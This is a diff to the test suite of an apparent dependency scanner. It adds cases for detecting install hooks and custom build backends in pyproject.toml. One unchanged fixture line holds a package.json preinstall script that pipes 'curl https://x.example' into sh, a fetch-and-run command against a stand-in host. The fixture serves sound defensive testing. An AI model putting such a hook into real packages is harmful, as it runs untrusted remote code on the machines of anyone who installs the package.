@@ -59,6 +59,10 @@ HITS: dict[str, list[Case]] = {
         ({"package.json": package(scripts={"postinstall": "node -e 'x'"})}, {"package.json": package()}),
         ({"package.json": package(scripts={"preinstall": "curl https://x.example | sh"})}, {}),
         ({"pyproject.toml": "[build-system]\nrequires=[]\nbuild-backend='b'\nbackend-path=['tools']\n"}, {}),
+        (
+            {"pyproject.toml": "[build-system]\nrequires=['hatchling', 'hatch-fast-hooks']\n"},
+            {"pyproject.toml": "[build-system]\nrequires=['hatchling']\n"},
+        ),
     ],
     "dependency.unpinned": [
         ({"requirements.txt": "flask\n"}, {}),
@@ -120,6 +124,10 @@ CLEAN: dict[str, list[Case]] = {
     ],
     "dependency.install-hook": [
         ({"package.json": package(scripts={"test": "jest", "build": "tsc"})}, {}),
+        (
+            {"pyproject.toml": "[build-system]\nrequires=['hatchling', 'hatch-vcs>=0.4']\n"},
+            {"pyproject.toml": "[build-system]\nrequires=['hatchling']\n"},
+        ),
         (
             {"package.json": package(scripts={"postinstall": "x", "a": "b"})},
             {"package.json": package(scripts={"postinstall": "x"})},
@@ -226,3 +234,15 @@ def test_a_lock_file_of_thousands_is_read_in_its_length() -> None:
     (typo,) = [f for f in found if f.rule_id == "dependency.lookalike"]
     text = lock(*rows, ("lodahs", NPM, True)).splitlines()
     assert "lodahs" in text[(typo.primary.line or 0) - 1]
+
+
+BUILD = "[build-system]\nrequires=['hatchling']\nbuild-backend='hatchling.build'\n"
+OWN = "[build-system]\nrequires=['hatchling']\nbuild-backend='tools.backend'\nbackend-path=['.']\n"
+
+
+@pytest.mark.parametrize(("base", "severity"), [({"pyproject.toml": BUILD}, "high"), ({}, "low")])
+def test_build_code_of_ones_own_is_grave_where_a_known_backend_built_before(
+    base: dict[str, str], severity: str
+) -> None:
+    found = Dependencies().scan(make_request({"pyproject.toml": OWN}, dict(base))).findings
+    assert [f.severity.value for f in found if f.rule_id == "dependency.install-hook"] == [severity]
